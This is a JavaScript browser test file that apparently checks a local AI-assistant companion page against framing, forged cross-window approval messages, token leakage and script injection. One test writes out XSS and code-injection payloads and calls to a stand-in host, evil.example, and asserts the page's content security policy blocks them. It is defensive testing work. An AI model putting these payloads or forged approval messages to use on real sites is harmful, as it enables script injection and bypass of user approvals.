// Tries of the cases with other pages, other programs on the port, and what a tab leaves behind.
import assert from 'node:assert/strict';
import { OpenAIStub } from './models.js';
import { until } from './rig.js';
import { serve } from './static-host.js';

/** What a case is tried with, by its number. @type {Record<string, (stage: import('./rig.js').Stage, one: any) => Promise<void>>} */
export const pages = {
  async U031(stage) {
    const me = await stage.page();
    stage.watch.expected.push(/frame-ancestors|frame-src|Refused to (frame|display)|Framing|the page asked/i);
    const other = await serve((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end(`<!doctype html><iframe src="${stage.companion.url}/"></iframe><iframe src="${stage.companion.url}/index.html" sandbox="allow-scripts allow-same-origin"></iframe><object data="${stage.companion.url}/"></object><embed src="${stage.companion.url}/">`);
    });
    const page = await stage.context.newPage();
    await page.goto(other);
    await page.waitForTimeout(1_000);
    for (const frame of page.frames().slice(1)) assert.equal(await frame.locator('#app').count().catch(() => 0), 0, frame.url());
    await me.page.evaluate((address) => {
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
    }, stage.companion.url).catch(() => {});
    await me.page.waitForTimeout(500);
    for (const frame of me.page.frames().slice(1)) assert.equal(await frame.locator('.app').count().catch(() => 0), 0, 'not even in a page of its own');
  },
  async U033(stage) {
    const me = await stage.page();
    await me.say('/read_file path=README.md');
    await me.question('README.md');
    const { approvals } = await stage.companion.api('GET', '/api/approvals');
    const other = await serve((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end('<!doctype html><button id=go>go</button>');
    });
    const page = await stage.context.newPage();
    await page.goto(other);
    stage.watch.expected.push(/the page asked/);
    const [popup] = await Promise.all([stage.context.waitForEvent('page'), page.evaluate((address) => {
      /** @type {any} */ (globalThis).target = open(address);
    }, stage.companion.url)]);
    await popup.locator('.app').waitFor();
    await page.evaluate((id) => {
      const { target } = /** @type {any} */ (globalThis);
      for (const message of [{ approve: true }, '{"approve":true}', { type: 'answer', id, decision: 'once' }, { id, decision: 'once' }, { type: 'event', kind: 'question.resolved', data: { id, decision: 'once' } }, { type: 'offer', pairing: { token: 'x', token_id: 'y', server: 'http://127.0.0.1:1' } }, { type: 'stop' }, { type: 'live', id: 'x', live: null }]) target?.postMessage(message, '*');
    }, approvals[0].id);
    await page.waitForTimeout(700);
    assert.equal((await stage.companion.api('GET', '/api/approvals')).approvals.length, 1);
    assert.equal(await me.questions.count(), 1);
    await popup.locator('button.waiting, section.card.ask').first().waitFor();
  },
  async U035(stage) {
    const me = await stage.page();
    const kept = await me.page.evaluate(() => ({ session: { ...sessionStorage }, local: { ...localStorage }, cookie: document.cookie, href: location.href, html: document.documentElement.outerHTML, globals: Object.keys(globalThis).filter((key) => /token|launch|pairing/i.test(key) && key !== 'launchQueue') }));
    const { token } = JSON.parse(kept.session['zc.pairing']);
    assert.match(token, /^[\w-]{40,}$/);
    assert.deepEqual(Object.keys(kept.session), ['zc.pairing']);
    const code = new URL(stage.companion.launch).hash.slice(6);
    for (const [where, text] of Object.entries({ local: JSON.stringify(kept.local), cookie: kept.cookie, href: kept.href, html: kept.html })) {
      assert.ok(!text.includes(token), `the token is in ${where}`);
      assert.ok(!text.includes(code), `the code is in ${where}`);
    }
    assert.deepEqual(kept.globals, []);
    assert.deepEqual(await stage.context.cookies(), []);
    for (const address of stage.watch.requests) assert.ok(!address.includes(token) && !address.replace(/#.*/, '').includes('code='), address);
    // The code is nowhere in the history: going back never brings it again.
    await me.go('settings/about');
    await me.page.goBack();
    await me.page.goBack().catch(() => null);
    assert.ok(!me.page.url().includes('code='));
    const next = await stage.context.newPage();
    await next.goto('about:blank');
    for (const page of stage.pages) await page.close();
    await next.goto(stage.companion.url);
    await next.getByRole('heading', { name: 'Not connected to the companion' }).waitFor();
    assert.deepEqual(await next.evaluate(() => Object.keys(sessionStorage)), [], 'gone with the tab');
  },
  async U037(stage) {
    const stub = await OpenAIStub.start([{ parts: [{ text: 'A private answer.' }] }]);
    await stage.companion.provider('stub', { kind: 'openai', base_url: `${stub.origin}/v1`, model: 'stub-1', api_key: 'sk-private-0123456789abcdefghij' });
    const me = await stage.page();
    await me.button(/^Model:/, false).click();
    await me.page.getByRole('menuitemradio', { name: /stub-1/ }).click();
    await me.say('a private question');
    await me.sees('A private answer.');
    await me.idle();
    await me.go('settings/appearance');
    await me.page.getByText('Dark', { exact: true }).click();
    await me.go('settings/providers');
    await me.page.waitForTimeout(300);
    const left = await me.page.evaluate(async () => ({ local: { ...localStorage }, databases: (await indexedDB.databases()).map(({ name }) => name), caches: await caches.keys(), workers: (await navigator.serviceWorker.getRegistrations()).length }));
    assert.deepEqual(Object.keys(left.local).filter((key) => !['zc.theme', 'zc.lang'].includes(key)), []);
    assert.deepEqual({ ...left, local: null }, { local: null, databases: [], caches: [], workers: 0 });
    assert.ok(!JSON.stringify(left).includes('private'));
  },
  async U038(stage) {
    const me = await stage.page();
    const blocked = /** @type {string[]} */ ([]);
    me.page.on('requestfinished', (request) => {
      if (request.url().includes('evil.example')) blocked.push(request.url());
    });
    const got = await me.page.evaluate(() => new Promise((resolve) => {
      // Code that a test injects is exempt from the policy until its first turn is over.
      setTimeout(() => {
        const out = /** @type {string[]} */ ([]);
        const attempt = (/** @type {string} */ name, /** @type {() => void} */ work) => {
          try {
            work();
            out.push(`${name} passed`);
          } catch (error) {
            out.push(`${name} ${/** @type {Error} */ (error).name}`);
          }
        };
        attempt('eval', () => (0, eval)('globalThis.__pwned = 1'));
        attempt('function', () => new Function('globalThis.__pwned = 1')());
        attempt('timer', () => setTimeout(/** @type {any} */ ('globalThis.__pwned = 1')));
        attempt('html', () => {
          document.body.innerHTML += '<img src=x onerror="globalThis.__pwned = 1">';
        });
        attempt('policy', () => /** @type {any} */ (globalThis).trustedTypes.createPolicy('mine', {}));
        attempt('inline', () => {
          const script = document.createElement('script');
          script.textContent = 'globalThis.__pwned = 1';
          document.head.append(script);
        });
        attempt('remote', () => {
          const script = document.createElement('script');
          script.src = 'https://evil.example/x.js';
          document.head.append(script);
        });
        attempt('handler', () => document.body.setAttribute('onclick', 'globalThis.__pwned = 1'));
        document.body.click();
        fetch('https://evil.example/').then(() => out.push('fetch passed'), () => out.push('fetch refused'));
        const image = new Image();
        image.src = 'https://evil.example/x.png';
        setTimeout(() => resolve(out), 600);
      }, 0);
    }));
    stage.watch.expected.push(/CSP|Content.Security|Trusted|unsafe-eval|violates|the page asked https:\/\/evil/i);
    for (const name of ['eval', 'function', 'html', 'policy', 'remote']) assert.ok(!got.includes(`${name} passed`), `${name}: ${got}`);
    assert.ok(got.includes('fetch refused'), String(got));
    assert.equal(await me.page.evaluate(() => /** @type {any} */ (globalThis).__pwned), undefined);
    assert.deepEqual(blocked, [], 'what was asked for was blocked before it left');
    assert.ok(stage.watch.faults.filter((fault) => fault.startsWith('CSP')).length >= 5, 'each was a violation');
    const answer = await fetch(stage.companion.url);
    const policy = answer.headers.get('content-security-policy') ?? '';
    for (const part of ["default-src 'none'", "script-src 'self'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'none'", "require-trusted-types-for 'script'"]) assert.ok(policy.includes(part), part);
  },
  async U040(stage) {
    const { companion } = stage;
    const origin = stage.options.origins?.[0] ?? '';
    await companion.api('POST', '/api/ui', { origin, confirmed: true });
    const page = await stage.context.newPage();
    // A browser sends a request that is under way again by itself when its socket breaks: none may be.
    const followed = page.waitForResponse((response) => response.url().endsWith('/api/events'));
    await page.goto(await companion.address());
    await page.locator('.app').waitFor();
    await followed;
    await page.waitForTimeout(500);
    const { token } = JSON.parse(await page.evaluate(() => sessionStorage.getItem('zc.pairing') ?? '{}'));
    const { port } = companion;
    await companion.end('SIGKILL');
    const seen = /** @type {{line: string, authorization: string, body: string}[]} */ ([]);
    await serve((request, response) => {
      let body = '';
      request.on('data', (data) => {
        body += data;
      });
      request.on('end', () => {
        seen.push({ line: `${request.method} ${request.url}`, authorization: request.headers.authorization ?? '', body });
        response.writeHead(200, { 'Access-Control-Allow-Origin': origin, 'Access-Control-Allow-Headers': '*, Authorization, Content-Type, Last-Event-ID', 'Access-Control-Allow-Methods': '*', 'Content-Type': 'application/json' });
        response.end(request.url === '/api/prove' ? JSON.stringify({ proof: '0'.repeat(64) }) : '{}');
      });
    }, port);
    // The open page comes back to what it takes for the companion; then it is loaded anew.
    await until(() => seen.some(({ line }) => line.startsWith('POST /api/prove')), 'the page asks for the proof', 30_000);
    await page.waitForTimeout(1_000);
    await page.reload();
    await page.locator('main.gate').waitFor();
    await page.waitForTimeout(1_000);
    assert.deepEqual(seen.filter(({ authorization, body }) => authorization || body.includes(token)), []);
    stage.watch.expected.push(/./);
  },
};
